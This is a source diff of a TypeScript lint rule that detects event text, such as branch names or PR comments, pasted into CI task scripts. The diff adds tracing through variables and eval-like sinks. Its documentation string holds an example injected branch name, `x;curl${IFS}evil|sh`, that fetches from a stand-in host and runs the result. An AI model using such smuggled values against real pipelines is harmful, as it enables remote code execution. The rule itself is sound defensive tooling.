@@ -1,6 +1,7 @@
 import { celOfBinding } from '../../../analysis/events/binding-expressions';
 import { Callees } from '../../../analysis/documents/callee';
 import { EventFlow } from '../../../analysis/events/event-flow';
+import { findRunByTree, findRunByWords } from '../../../analysis/events/payload-scripts';
 import { scriptsReached, type Hop, type ReachedScript } from '../../../analysis/events/payload-ways';
 import { triggerName } from '../../../analysis/events/trigger-ways';
 import { envName } from '../../../util/env-name';
@@ -20,7 +21,7 @@ export const payloadInScript = defineRule({
   severity: 'warning',
   docs: {
     title: 'Text of an event is pasted into a script',
-    why: 'Whoever may push a branch, open a pull request or write a comment chooses that text. A branch may be called `x;curl${IFS}evil|sh`: what stands in the script is run, with all that the task may do. A signature says that the event comes from the forge, and nothing of what people wrote.',
+    why: 'Whoever may push a branch, open a pull request or write a comment chooses that text. A branch may be called `x;curl${IFS}evil|sh`: what stands in the script is run, with all that the task may do. A signature says that the event comes from the forge, and nothing of what people wrote. In a variable the text is data, until a script runs it: by `eval "$TITLE"`, `bash <<< "$TITLE"`, `. "$TITLE"` or `xargs -I{} sh -c …`. In files, scripts of sh and bash are followed through variables, functions, pipes and files to such places; what is compared first, or goes through `tr`, `sed` and the like, is taken for checked.',
     bad: set(task, template, trigger('$(body.ref)')),
     good: set(task, template, trigger('$(body.after)')),
   },
@@ -28,41 +29,45 @@ export const payloadInScript = defineRule({
     pasted: (d: { value: string; what: string }) =>
       `${quote(d.value)} of the event becomes part of the script of ${d.what}`,
   },
-  visit: ({ report, set, current, namespace, placeOf, placeIn }) => ({
-    Trigger({ trigger, path, ofListener }) {
-      const home = current();
-      const runs = templateRuns(trigger.template ?? {}, `${path}.template`, set(), namespace());
-      if (!home || runs.length === 0) return;
-      const flow = new EventFlow({ trigger, path, ofListener, home: triggerName(home) }, set());
-      for (const { name, value, path: at, from } of flow.values) {
-        const reached = runs.flatMap(({ run, spot }) => {
-          const { metadata } = run as { readonly metadata?: { readonly namespace?: string } };
-          return scriptsReached(name, run, spot, new Callees(set(), metadata?.namespace ?? namespace()));
-        });
-        const [first, ...others] = reached;
-        const open = first && flow.openIn(value);
-        if (!first || open === undefined) continue;
-        const placed = ({ note, at: { document, path: field } }: Hop) => ({
-          note,
-          at: document ? placeIn(document, field) : placeOf(field),
-        });
-        report(
-          'pasted',
-          { value: `$(${open})`, what: first.what },
-          {
-            path: at,
-            text: from ? undefined : `$(${open})`,
-            related: [
-              ...takenBy(from, placeIn),
-              ...first.hops.map(placed),
-              ...others.flatMap(({ hops }) => hops.slice(-1).map(placed)),
-            ],
-            help: helpFor(first, open),
-          },
-        );
-      }
-    },
-  }),
+  visit: ({ report, set, current, namespace, placeOf, placeIn, readsScripts }) => {
+    const byTree = findRunByTree();
+    return {
+      Trigger({ trigger, path, ofListener }) {
+        const findRun = readsScripts() ? byTree : findRunByWords;
+        const home = current();
+        const runs = templateRuns(trigger.template ?? {}, `${path}.template`, set(), namespace());
+        if (!home || runs.length === 0) return;
+        const flow = new EventFlow({ trigger, path, ofListener, home: triggerName(home) }, set());
+        for (const { name, value, path: at, from } of flow.values) {
+          const reached = runs.flatMap(({ run, spot }) => {
+            const { metadata } = run as { readonly metadata?: { readonly namespace?: string } };
+            return scriptsReached(name, run, spot, new Callees(set(), metadata?.namespace ?? namespace()), findRun);
+          });
+          const [first, ...others] = reached;
+          const open = first && flow.openIn(value);
+          if (!first || open === undefined) continue;
+          const placed = ({ note, at: { document, path: field } }: Hop) => ({
+            note,
+            at: document ? placeIn(document, field) : placeOf(field),
+          });
+          report(
+            'pasted',
+            { value: `$(${open})`, what: first.what },
+            {
+              path: at,
+              text: from ? undefined : `$(${open})`,
+              related: [
+                ...takenBy(from, placeIn),
+                ...first.hops.map(placed),
+                ...others.flatMap(({ hops }) => hops.slice(-1).map(placed)),
+              ],
+              help: helpFor(first, open),
+            },
+          );
+        }
+      },
+    };
+  },
 });
 
 function helpFor({ variable, param = 'VALUE', evaluated }: ReachedScript, open: string): string[] {
